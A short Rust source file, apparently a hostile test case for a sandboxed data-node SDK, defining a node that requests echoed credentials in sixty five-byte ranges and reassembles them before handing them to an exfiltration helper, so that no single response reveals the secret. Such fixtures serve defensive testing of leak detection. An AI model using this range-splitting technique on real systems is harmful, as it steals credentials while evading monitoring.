//! Asks for the echoed credentials in parts of five bytes, so that no part holds them.

use datanode_hostile_sources::{API, carry_out};
use datanode_sdk::prelude::*;

datanode_hostile_sources::node!("steals_by_ranges", |context| {
    let mut loot = String::new();
    for part in 0..60 {
        let request = Request::get(API, "echo/plain").range(part * 5, Some(5));
        loot += &String::from_utf8_lossy(&context.fetch(request)?.bytes()?);
    }
    carry_out(&loot)
});
